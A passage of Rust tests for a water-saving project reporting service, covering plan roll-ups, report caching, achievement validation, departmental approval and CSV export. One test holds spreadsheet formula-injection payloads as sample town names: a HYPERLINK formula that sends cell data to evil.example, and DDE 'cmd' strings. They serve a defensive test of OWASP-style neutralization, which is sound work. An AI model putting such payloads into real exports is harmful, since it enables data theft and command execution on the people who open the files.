        assert_ne!(first[0].project_id, second[0].project_id);
        assert_eq!(last, "");

        r.db().close().await;
        cleanup(&path);
    }

    /// A water user's town that a spreadsheet would run as a formula reaches the CSV export
    /// through the milestone event, neutralized (OWASP): a leading `'`, and quoted.
    #[tokio::test]
    async fn csv_export_neutralizes_formulas_from_project_data() {
        let (r, path) = temp().await;
        r.seed_default_plan().await.expect("seed");
        let handler = r.event_handler();
        let as_of = report::parse_date("2020-12-31").expect("date");
        for (k, town) in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
        ]
        .into_iter()
        .enumerate()
        {
            let mut e = envelope(&format!("ev-{k}"), &format!("p-{k}"), Milestone::Contracted);
            let mut m = ProjectMilestone::decode(e.payload.as_slice()).expect("decode");
            m.town = town.to_string();
            e.payload = m.encode_to_vec();
            handler.handle(&e).await.expect("handled");
            let file = r
                .export(
                    None,
                    "xinbei-2020",
                    0,
                    as_of,
                    export::FileFormat::Csv,
                    cwsm_platform::lang::Lang::En,
                )
                .await
                .expect("csv");
            let text = String::from_utf8(file.content).expect("utf-8");
            let a8 = text
                .lines()
                .find(|l| l.starts_with("A8-CONTRACT-PROJECTS,"))
                .expect("a8 line");
            // The facts are forgotten after each round: this town is alone in its cell.
            let cell = format!("\"'{}=", town.replace('"', "\"\""));
            assert!(
                a8.contains(&format!(",{cell}")),
                "town {town:?} not neutralized in {a8:?}"
            );
            // No field of any line starts with a formula character, but for the numeric
            // columns we write ourselves.
            for line in text.lines().skip(1) {
                for (c, field) in export::split_csv_line(line).iter().enumerate() {
                    if export::NUMERIC_COLUMNS.contains(&c) {
                        // Empty where it does not apply (completed projects of a recorded one).
                        assert!(
                            field.is_empty() || field.parse::<f64>().is_ok(),
                            "column {c}: {field:?}"
                        );
                        continue;
                    }
                    assert!(
                        !field.starts_with(['=', '+', '-', '@', '\t', '\r']),
                        "column {c} of {line:?}: {field:?}"
                    );
                }
            }
            // Clear the facts so the next town leads its cell alone.
            let admin = Principal {
                subject: "t".into(),
                role: cwsm_platform::auth::Role::Admin,
                org: None,
                scope: cwsm_platform::auth::Scope::Platform,
            };
            r.forget_facts(&admin).await.expect("forget");
        }
        r.db().close().await;
        cleanup(&path);
    }

    fn within(jurisdiction: &str, department: Option<&str>) -> Principal {
        Principal {
            subject: format!("{jurisdiction}-{}", department.unwrap_or("office")),
            role: cwsm_platform::auth::Role::Admin,
            org: None,
            scope: cwsm_platform::auth::Scope::Within {
                jurisdiction: cwsm_platform::jurisdiction::Jurisdiction::parse("j", jurisdiction)
                    .expect("code"),
                department: department.map(str::to_string),
            },
        }
    }

    fn gov_agency(unit: &str, date: &str) -> NewAchievement {
        NewAchievement {
            plan_code: "xinbei-2020".into(),
            indicator_code: "A2-GOV-AGENCIES".into(),
            unit_name: unit.into(),
            achieved_date: date.into(),
            evidence: "常新水〔2020〕12号".into(),
            value: 1.0,
            note: String::new(),
            department: String::new(),
            town: String::new(),
            sector: None,
        }
    }

    async fn gov_agencies(r: &Reporting) -> f64 {
        let report = r
            .report(
                "xinbei-2020",
                0,
                report::parse_date("2020-12-31").expect("date"),
            )
            .await
            .expect("report");
        report
            .lines
            .iter()
            .find(|l| l.indicator.code == "A2-GOV-AGENCIES")
            .expect("A2-GOV-AGENCIES")
            .actual
    }

    /// A city plan of its own: 常州市's target of 3 contract projects is the sum of its
    /// districts' A8 lines (a `rolled_up` indicator, the mapping of a higher plan onto its
    /// districts' codes). Xinbei contracts one project and Wujin two: the city's own report,
    /// its roll-up and the province's roll-up (where the city plan is a city report) all read
    /// 1 + 2 = 3, achieved.
    #[tokio::test]
    async fn a_city_plan_rolls_up_its_districts_and_the_province_shows_it() {
        let (r, path) = temp().await;
        r.seed_default_plan().await.expect("seed");
        let operator = Principal {
            subject: "op".into(),
            role: cwsm_platform::auth::Role::Admin,
            org: None,
            scope: cwsm_platform::auth::Scope::Platform,
        };
        let wujin = plan::DEFAULT_PLAN_TOML
            .replacen("code = \"xinbei-2020\"", "code = \"wujin-2020\"", 1)
            .replacen("jurisdiction = \"320411\"", "jurisdiction = \"320412\"", 1);
        r.load_plan(&operator, "w", wujin.as_bytes(), &wujin, false)
            .await
            .expect("wujin");
        let city = r#"
code = "changzhou-2020"
title = "Changzhou 2020 (test)"
district = "Changzhou"
year = 2020
jurisdiction = "320400"
window = { from = "2020-01-01", to = "2020-12-31" }
source = "test"

[[actions]]
number = 1
name = "Contract water saving"

[[indicators]]
code = "CZ-CONTRACT-PROJECTS"
action = 1
name = "Contract projects in the city"
name_zh = "全市合同节水管理项目"
unit = "projects"
comparator = "at_least"
target = 3.0
deadline = "2020-12-31"
kind = "rolled_up"
from = ["A8-CONTRACT-PROJECTS"]
"#;
        r.load_plan(&operator, "c", city.as_bytes(), city, false)
            .await
            .expect("city plan");
        let handler = r.event_handler();
        let at = |id: &str, project: &str, town: &str| {
            let mut e = envelope(id, project, Milestone::Contracted);
            let mut m = ProjectMilestone::decode(e.payload.as_slice()).expect("payload");
            m.jurisdiction_code = town.into();
            e.payload = m.encode_to_vec();
            e
        };
        handler
            .handle(&at("x1", "px", "320411001"))
            .await
            .expect("xinbei");
        handler
            .handle(&at("w1", "pw1", "320412100"))
            .await
            .expect("wujin 1");
        handler
            .handle(&at("w2", "pw2", "320412101"))
            .await
            .expect("wujin 2");
        let as_of = report::parse_date("2020-12-31").expect("date");

        let own = r
            .report("changzhou-2020", 0, as_of)
            .await
            .expect("city report");
        let line = &own.lines[0];
        assert_eq!(line.actual, 3.0, "1 in Xinbei + 2 in Wujin");
        assert_eq!(line.evaluation.status, report::Status::Achieved);
        let by_district: Vec<(&str, f64)> =
            line.by_town.iter().map(|(c, n)| (c.as_str(), *n)).collect();
        assert_eq!(by_district, [("320411", 1.0), ("320412", 2.0)]);

        let rollup = r.rollup("320400", 2020, as_of).await.expect("city roll-up");
        let cz = &rollup.lines[0];
        assert_eq!(
            cz.code, "CZ-CONTRACT-PROJECTS",
            "the city's own lines come first"
        );
        assert_eq!(cz.total.map(|t| t.actual), Some(3.0));
        let own_target = cz.own.as_ref().expect("own target");
        assert_eq!(
            (own_target.target, own_target.status),
            (3.0, report::Status::Achieved)
        );
        let rows: Vec<(&str, &str)> = cz
            .rows
            .iter()
            .map(|row| (row.district.code.as_str(), row.indicator_code.as_str()))
            .collect();
        assert_eq!(
            rows,
            [
                ("320411", "A8-CONTRACT-PROJECTS"),
                ("320412", "A8-CONTRACT-PROJECTS")
            ]
        );

        let province = r.rollup("320000", 2020, as_of).await.expect("province");
        assert_eq!(province.cities.len(), 1);
        assert_eq!(province.cities[0].lines[0].actual, 3.0);
        let a8 = province
            .lines
            .iter()
            .find(|l| l.code == "A8-CONTRACT-PROJECTS")
            .expect("a8");
        assert_eq!(a8.total.map(|t| t.actual), Some(3.0));
        assert!(
            a8.rows
                .iter()
                .all(|row| row.city.as_ref().map(|c| c.code.as_str()) == Some("320400"))
        );

        // A third Wujin contract: the city's figure follows, its own report kept or not.
        handler
            .handle(&at("w3", "pw3", "320412100"))
            .await
            .expect("wujin 3");
        let own = r
            .report("changzhou-2020", 0, as_of)
            .await
            .expect("city report");
        assert_eq!(own.lines[0].actual, 4.0);
        cleanup(&path);
    }

    /// Reports are kept between calls (the roll-up's speed), but never past a change, whichever
    /// replica made it: two services on one database, one reading, the other writing a count,
    /// a hand-over (which changes no count, only the completion figure) and an achievement.
    #[tokio::test]
    async fn a_kept_report_is_served_until_any_replica_changes_what_it_reads() {
        let (reader, path) = temp().await;
        reader.seed_default_plan().await.expect("seed");
        let writer = Reporting::connect(&format!("sqlite://{}", path.display()))
            .await
            .expect("second replica");
        let completed = |r: &Report| {
            r.lines
                .iter()
                .find(|l| l.indicator.code == "A8-CONTRACT-PROJECTS")
                .and_then(|l| l.completed)
        };
        let as_of = report::parse_date("2020-12-31").expect("date");

        assert_eq!(a8(&reader).await, 0.0);
        let computed = reader.report_computations();
        assert_eq!(a8(&reader).await, 0.0);
        assert_eq!(
            reader.report_computations(),
            computed,
            "nothing changed: the kept report serves"
        );

        let handler = writer.event_handler();
        handler
            .handle(&envelope("ev-1", "p-1", Milestone::Contracted))
            .await
            .expect("contracted");
        assert_eq!(a8(&reader).await, 1.0, "a count by the other replica");
        let report = reader
            .report("xinbei-2020", 0, as_of)
            .await
            .expect("report");
        assert_eq!(completed(&report), Some(0));

        handler
            .handle(&envelope("ev-2", "p-1", Milestone::HandedOver))
            .await
            .expect("handed over");
        let report = reader
            .report("xinbei-2020", 0, as_of)
            .await
            .expect("report");
        assert_eq!(completed(&report), Some(1), "a hand-over changes no count");

        assert_eq!(gov_agencies(&reader).await, 0.0);
        writer
            .record_achievement(
                &within("320411", None),
                "r1",
                b"1",
                gov_agency("新北区财政局", "2020-06-01"),
            )
            .await
            .expect("recorded");
        assert_eq!(gov_agencies(&reader).await, 1.0, "an achievement");
        cleanup(&path);
    }

    /// Issue 11 §3: an achievement dated 9999-12-31 (or outside the plan's window) and the same
    /// agency recorded twice were accepted.
    #[tokio::test]
    async fn achievements_inside_the_window_and_each_unit_once() {
        let (r, path) = temp().await;
        r.seed_default_plan().await.expect("seed");
        let office = within("320411", None);
        let first = r
            .record_achievement(
                &office,
                "r1",
                b"1",
                gov_agency("新北区财政局", "2020-06-01"),
            )
            .await
            .expect("recorded");
        assert_eq!(first.state(), State::Approved);
        for (k, date) in ["9999-12-31", "2019-12-31", "2021-01-01"]
            .into_iter()
            .enumerate()
        {
            let e = r
                .record_achievement(
                    &office,
                    &format!("d{k}"),
                    b"d",
                    gov_agency("新北区卫健局", date),
                )
                .await
                .expect_err(date);
            assert!(
                matches!(&e, Error::InvalidArgument { field, reason } if field == "achieved_date" && (reason.contains("future") || reason.contains("2020-01-01..2020-12-31"))),
                "{date}: {e:?}"
            );
        }
        // The same unit again, spelt with blanks around it: ALREADY_EXISTS naming the first.
        let e = r
            .record_achievement(
                &office,
                "r2",
                b"2",
                gov_agency("  新北区财政局 ", "2020-07-01"),
            )
            .await
            .expect_err("twice");
        assert!(
            matches!(&e, Error::AlreadyExists(m) if m.contains(&first.id)),
            "{e:?}"
        );
        // Case does not make another unit.
        r.record_achievement(
            &office,
            "r3",
            b"3",
            gov_agency("Xinbei Audit Office", "2020-07-01"),
        )
        .await
        .expect("another unit");
        let e = r
            .record_achievement(
                &office,
                "r4",
                b"4",
                gov_agency("xinbei audit office", "2020-08-01"),
            )
            .await
            .expect_err("the same unit in lower case");
        assert!(matches!(e, Error::AlreadyExists(_)), "{e:?}");
        // A retried request is answered with its first result, not refused as a duplicate.
        let again = r
            .record_achievement(
                &office,
                "r1",
                b"1",
                gov_agency("新北区财政局", "2020-06-01"),
            )
            .await
            .expect("retry");
        assert_eq!(again.id, first.id);
        // Corrections follow the same rules.
        let fix = |date: &str| Correction {
            value: 1.0,
            achieved_date: date.into(),
            evidence: "doc".into(),
            note: String::new(),
            retract: false,
            reason: "date".into(),
        };
        let e = r
            .correct_achievement(&office, "c1", b"c1", &first.id, 0, fix("9999-12-31"))
            .await
            .expect_err("future");
        assert!(matches!(e, Error::InvalidArgument { field, .. } if field == "achieved_date"));
        // Once retracted, the unit may be recorded again.
        r.correct_achievement(
            &office,
            "c2",
            b"c2",
            &first.id,
            0,
            Correction {
                retract: true,
                ..fix("2020-06-01")
            },
        )
        .await
        .expect("retracted");
        r.record_achievement(
            &office,
            "r5",
            b"5",
            gov_agency("新北区财政局", "2020-09-01"),
        )
        .await
        .expect("recorded again after the retraction");
        // 新北区财政局 (again) + Xinbei Audit Office = 2.
        assert_eq!(gov_agencies(&r).await, 2.0);
        r.db().close().await;
        cleanup(&path);
    }

    /// Issue 11 §6: a participating department's achievement waits for a lead department; a
    /// department not named by the indicator may not record; administrators keep to their
    /// jurisdiction.
    #[tokio::test]
    async fn departments_record_their_own_and_lead_departments_approve() {
        let (r, path) = temp().await;
        r.seed_default_plan().await.expect("seed");
        // A2-GOV-AGENCIES: lead agri, office; participants finance, housing, market, ecoenv, towns.
        let finance = within("320411", Some("finance"));
        let agri = within("320411", Some("agri"));
        let edu = within("320411", Some("edu"));
        let wujin = within("320412", None);
        let changzhou = within("320400", None);

        let e = r
            .record_achievement(&edu, "e1", b"e", gov_agency("新北区教育局", "2020-06-01"))
            .await
            .expect_err("edu is not named by A2-GOV-AGENCIES");
        assert!(
            matches!(&e, Error::PermissionDenied(m) if m.contains("agri, office") && m.contains("finance")),
            "{e:?}"
        );
        let e = r
            .record_achievement(&wujin, "w1", b"w", gov_agency("武进区财政局", "2020-06-01"))
            .await
            .expect_err("Wujin's office, Xinbei's plan");
        assert!(matches!(e, Error::PermissionDenied(_)), "{e:?}");
        // A department records as itself.
        let mut as_agri = gov_agency("新北区财政局", "2020-06-01");
        as_agri.department = "agri".into();
        assert!(matches!(
            r.record_achievement(&finance, "f0", b"f0", as_agri).await,
            Err(Error::PermissionDenied(_))
        ));

        let pending = r
            .record_achievement(
                &finance,
                "f1",
                b"f1",
                gov_agency("新北区财政局", "2020-06-01"),
            )
            .await
            .expect("a participant records");
        assert_eq!(pending.state(), State::Pending);
        assert_eq!(pending.department, "finance");
        let led = r
            .record_achievement(
                &agri,
                "a1",
                b"a1",
                gov_agency("新北区农业农村局", "2020-06-02"),
            )
            .await
            .expect("a lead records");
        assert_eq!(led.state(), State::Approved);
        // Only the lead's counts: 1.
        assert_eq!(gov_agencies(&r).await, 1.0);
        let page = Page::from_request(10, "").expect("page");
        let (waiting, _) = r
            .list_achievements(
                &AchievementFilter {
                    state: Some(State::Pending),
                    ..Default::default()
                },
                &page,
            )
            .await
            .expect("list");
        assert_eq!(
            waiting.iter().map(|a| a.id.as_str()).collect::<Vec<_>>(),
            [pending.id.as_str()]
        );

        // Neither the participant itself nor another district approves.
        for who in [&finance, &wujin] {
            let e = r
                .decide_achievement(who, "x", b"x", &pending.id, 0, State::Approved, "")
                .await
                .expect_err("not a lead");
            assert!(matches!(e, Error::PermissionDenied(_)), "{e:?}");
        }
        let e = r
            .decide_achievement(&agri, "rj0", b"rj0", &pending.id, 0, State::Rejected, " ")
            .await
            .expect_err("a rejection needs its reason");
        assert!(matches!(e, Error::InvalidArgument { field, .. } if field == "reason"));
        let rejected = r
            .decide_achievement(
                &agri,
                "rj1",
                b"rj1",
                &pending.id,
                1,
                State::Rejected,
                "no document number",
            )
            .await
            .expect("rejected");
        assert_eq!(rejected.state(), State::Rejected);
        assert_eq!(rejected.current().reason, "no document number");
        assert_eq!(gov_agencies(&r).await, 1.0);
        // Corrected by its department: pending again; approved by the city's office (it
        // administers Xinbei); then it counts: 1 + 1 = 2.
        let corrected = r
            .correct_achievement(
                &finance,
                "fc",
                b"fc",
                &pending.id,
                2,
                Correction {
                    value: 1.0,
                    achieved_date: "2020-06-01".into(),
                    evidence: "常新财〔2020〕7号".into(),
                    note: String::new(),
                    retract: false,
                    reason: "document number added".into(),
                },
            )
            .await
            .expect("corrected");
        assert_eq!(corrected.state(), State::Pending);
        let approved = r
            .decide_achievement(&changzhou, "ap", b"ap", &pending.id, 3, State::Approved, "")
            .await
            .expect("approved");
        assert_eq!(approved.state(), State::Approved);
        assert_eq!(gov_agencies(&r).await, 2.0);
        // The history: recorded (pending), rejected, corrected (pending), approved.
        let states: Vec<(State, &str)> = approved
            .revisions
            .iter()
            .map(|v| (v.state, v.recorded_by.as_str()))
            .collect();
        assert_eq!(
            states,
            [
                (State::Pending, "320411-finance"),
                (State::Rejected, "320411-agri"),
                (State::Pending, "320411-finance"),
                (State::Approved, "320400-office"),
            ]
        );
        // Only pending ones are decided.
        let e = r
            .decide_achievement(&agri, "ap2", b"ap2", &pending.id, 0, State::Approved, "")
            .await
            .expect_err("approved already");
        assert!(
            matches!(&e, Error::FailedPrecondition(m) if m.contains("CorrectAchievement")),
            "{e:?}"
        );
        // Another district's office neither loads Xinbei's plan nor lists its counted projects.
        let e = r
            .load_plan(&wujin, "lp", b"lp", plan::DEFAULT_PLAN_TOML, false)
            .await
            .expect_err("Xinbei's plan");
        assert!(matches!(e, Error::PermissionDenied(_)), "{e:?}");
        assert!(matches!(
            r.counted_projects(
                &wujin,
                "xinbei-2020",
                "A8-CONTRACT-PROJECTS",
                "",
                None,
                &page
            )
            .await,
            Err(Error::PermissionDenied(_))
        ));
        r.counted_projects(
            &changzhou,
            "xinbei-2020",
            "A8-CONTRACT-PROJECTS",
            "",
            None,
            &page,
        )
        .await
        .expect("the city's office");
        r.db().close().await;
        cleanup(&path);
    }

    /// The kept counts give the same report as counting the facts, on every date, whatever
    /// the order events arrive in, for a plan loaded before the facts and one loaded after:
    /// for every measure, with facts inside and outside the plans' jurisdictions and windows,
    /// back-dated (effective before they were recorded) and re-dated sites.
    #[tokio::test]
    async fn kept_counts_equal_counting_the_facts() {
        let (r, path) = temp().await;
        r.seed_default_plan().await.expect("seed");
        let admin = Principal {
            subject: "t".into(),
            role: cwsm_platform::auth::Role::Admin,
            org: None,
            scope: cwsm_platform::auth::Scope::Platform,
        };
        let a8_head = "unit = \"projects\"\ncomparator = \"at_least\"\ntarget = 1.0\ndeadline = \"2020-12-31\"";
        let a8_rule = "measure = \"projects\"\nmilestone = \"contracted\"";
        let variant = |code: &str, edits: &[(&str, &str)]| {
            let mut text = plan::DEFAULT_PLAN_TOML.replacen(
                "code = \"xinbei-2020\"",
                &format!("code = \"{code}\""),
                1,
            );
            for (from, to) in edits {
                assert!(text.contains(from), "{from}");
                text = text.replacen(from, to, 1);
            }
            text
        };
        let plans = [
            variant(
                "xinbei-remove",
                &[
                    ("on_terminated = \"keep\"", "on_terminated = \"remove\""),
                    ("on_terminated = \"keep\"", "on_terminated = \"remove\""),
                ],
            ),
            variant(
                "wujin-2020",
                &[("jurisdiction = \"320411\"", "jurisdiction = \"320412\"")],
            ),
            variant(
                "changzhou-2020",
                &[("jurisdiction = \"320411\"", "jurisdiction = \"320400\"")],
            ),
            variant(
                "xinbei-sites",
                &[(a8_rule, "measure = \"sites\"\nmilestone = \"contracted\"")],
            ),
            variant(
                "xinbei-m3",
                &[
                    (
                        a8_head,
                        "unit = \"m³\"\ncomparator = \"at_least\"\ntarget = 1000.0\ndeadline = \"2020-12-31\"",
                    ),
                    (
                        a8_rule,
                        "measure = \"verified_m3\"\nmilestone = \"period_verified\"",
                    ),
                ],
            ),
            variant(
                "xinbei-invest",
                &[
                    (
                        a8_head,
                        "unit = \"yuan\"\ncomparator = \"at_least\"\ntarget = 100000.0\ndeadline = \"2020-12-31\"",
                    ),
                    (
                        a8_rule,
                        "measure = \"investment_yuan\"\nmilestone = \"contracted\"\non_terminated = \"remove\"",
                    ),
                    (
                        "on_terminated = \"keep\"\n\n[[indicators]]\ncode = \"A9",
                        "\n[[indicators]]\ncode = \"A9",
                    ),
                ],
            ),
        ];
        for text in &plans {
            r.load_plan(&admin, "before", b"", text, false)
                .await
                .expect("plan before");
        }
        let day = |d: u32| 1_577_836_800_000i64 + i64::from(d) * 86_400_000 + 3_600_000;
        let sectors = [
            Sector::School,
            Sector::Hospital,
            Sector::Community,
            Sector::IndustrialEnterprise,
        ];
        let towns = ["新桥街道", "薛家镇", ""];
        let places = ["320411004", "320411", "320412", "320411101"]
            .map(|c| cwsm_platform::jurisdiction::Jurisdiction::parse("j", c).expect("code"));
        let mut facts = Vec::new();
        for p in 0..48u32 {
            let recorded = day(p * 7 % 330);
            let base = Fact {
                event_id: String::new(),
                project_id: format!("p{p}"),
                sequence: 0,
                milestone: Milestone::HandedOver,
                occurred_at_ms: recorded,
                counted_at_ms: 0,
                effective_date: report::cst_date(recorded),
                jurisdiction: places[p as usize % places.len()].clone(),
                investment_fen: 1_000_000 + i64::from(p) * 12_345,
                period_id: String::new(),
                period_savings_litres: 0,
                sector: Some(sectors[p as usize % sectors.len()]),
                unit_type: "university".into(),
                town: towns[p as usize % towns.len()].into(),
                tags: if p % 3 == 0 {
                    vec![
                        IndicatorTag::ContractProject,
                        IndicatorTag::TechnicalRetrofit,
                    ]
                } else {
                    vec![IndicatorTag::ContractProject]
                },
                project_title: String::new(),
                company_id: String::new(),
                company_name: String::new(),
                // Five water users: projects at the same site count once as sites.
                water_user_credit_code: format!("user-{}", p % 5),
                water_user_name: String::new(),
            };
            for (k, m) in [
                Milestone::Contracted,
                Milestone::Accepted,
                Milestone::HandedOver,
            ]
            .into_iter()
            .enumerate()
            {
                let at = base.occurred_at_ms + i64::try_from(k).unwrap_or(0) * 86_400_000 * 5;
                let mut effective = report::cst_date(at);
                if p % 6 == 2 {
                    // Entered later than it took effect: dated 40 days back.
                    effective -= chrono::Duration::days(40);
                }
                if p % 7 == 3 {
                    // Took effect in 2021, outside the window.
                    effective = report::parse_date("2021-02-01").expect("date");
                }
                facts.push(Fact {
                    event_id: format!("e{p}-{k}"),
                    milestone: m,
                    occurred_at_ms: at,
                    effective_date: effective,
                    ..base.clone()
                });
            }
            for q in 0..(p % 3) {
                facts.push(Fact {
                    event_id: format!("e{p}-v{q}"),
                    milestone: Milestone::PeriodVerified,
                    occurred_at_ms: base.occurred_at_ms + i64::from(q + 1) * 86_400_000 * 20,
                    effective_date: report::cst_date(
                        base.occurred_at_ms + i64::from(q + 1) * 86_400_000 * 20,
                    ),
                    period_id: format!("period-{q}"),
                    period_savings_litres: 123_457 * i64::from(p + 1) + i64::from(q),
                    ..base.clone()
                });
            }
            if p % 4 == 1 {
                // Terminated, sometimes before, sometimes after it would count.
                let at = base.occurred_at_ms + i64::from(p % 3) * 86_400_000 * 6;
                facts.push(Fact {
                    event_id: format!("e{p}-t"),
                    milestone: Milestone::Terminated,
                    occurred_at_ms: at,
                    effective_date: report::cst_date(at),
                    ..base.clone()
                });
            }
        }
        // A scrambled order: terminations often arrive before what they end.
        facts.sort_by_key(|f| {
            (f.event_id.len() * 7919 + f.event_id.bytes().map(usize::from).sum::<usize>()) % 97
        });
        // And the hand-overs of every fifth project before everything (a history entered from
        // its end): they are stored before the facts that count the project.
        facts.sort_by_key(|f| {
            let fifth = f
                .project_id
                .trim_start_matches('p')
                .parse::<u32>()
                .is_ok_and(|p| p % 5 == 0);
            !(f.milestone == Milestone::HandedOver && fifth)
        });
        for f in &facts {
            r.apply_fact(f).await.expect("apply");
            r.apply_fact(f).await.expect("again");
        }
        for text in &plans {
            r.load_plan(&admin, "after", b"", text, false)
                .await
                .expect("plan after");
        }
        let stored_facts = r
            .store
            .facts(&[
                Milestone::Contracted,
                Milestone::Accepted,
                Milestone::HandedOver,
                Milestone::PeriodVerified,
            ])
            .await
            .expect("facts");
        let mut compared = 0;
        let mut nonzero = 0;
        let mut completed = 0;
        let codes = [
            "xinbei-2020",
            "xinbei-remove",
            "wujin-2020",
            "changzhou-2020",
            "xinbei-sites",
            "xinbei-m3",
            "xinbei-invest",
        ];
        for code in codes {
            for version in [1, 2] {
                let stored = r.store.plan_by_code(code, version).await;
                let Ok(stored) = stored else {
                    // The seed plan was loaded once.
                    assert_eq!((code, version), ("xinbei-2020", 2));
                    continue;
                };
                for date in [
                    "2020-01-01",
                    "2020-03-15",
                    "2020-06-30",
                    "2020-09-01",
                    "2020-11-30",
                    "2021-06-01",
                ] {
                    let as_of = report::parse_date(date).expect("date");
                    let kept = r.report(code, version, as_of).await.expect("report");
                    let counted = report::build_report(
                        &stored,
                        &stored_facts,
                        &Default::default(),
                        as_of,
                        kept.generated_at_ms,
                    );
                    for (a, b) in kept.lines.iter().zip(&counted.lines) {
                        if !a.indicator.kind.counts() {
                            continue;
                        }
                        compared += 1;
                        if a.actual > 0.0 {
                            nonzero += 1;
                        }
                        if a.completed.is_some_and(|n| n > 0) {
                            completed += 1;
                        }
                        assert_eq!(
                            (
                                a.actual,
                                &a.by_town,
                                &a.by_sector,
                                &a.history,
                                a.evaluation,
                                a.completed
                            ),
                            (
                                b.actual,
                                &b.by_town,
                                &b.by_sector,
                                &b.history,
                                b.evaluation,
                                b.completed
                            ),
                            "{code} v{version} {} as of {date}",
                            a.indicator.code
                        );
                    }
                }
            }
        }
        // Every plan, version, date and counted indicator, most of them counting something.
        assert_eq!(compared, (1 + 6 * 2) * 6 * 2);
        assert!(nonzero > compared / 2, "{nonzero} of {compared}");
        // Completion counts (handed over by the date) are compared on many of them too.
        assert!(completed > compared / 4, "{completed} of {compared}");
        r.db().close().await;
        cleanup(&path);
    }
}
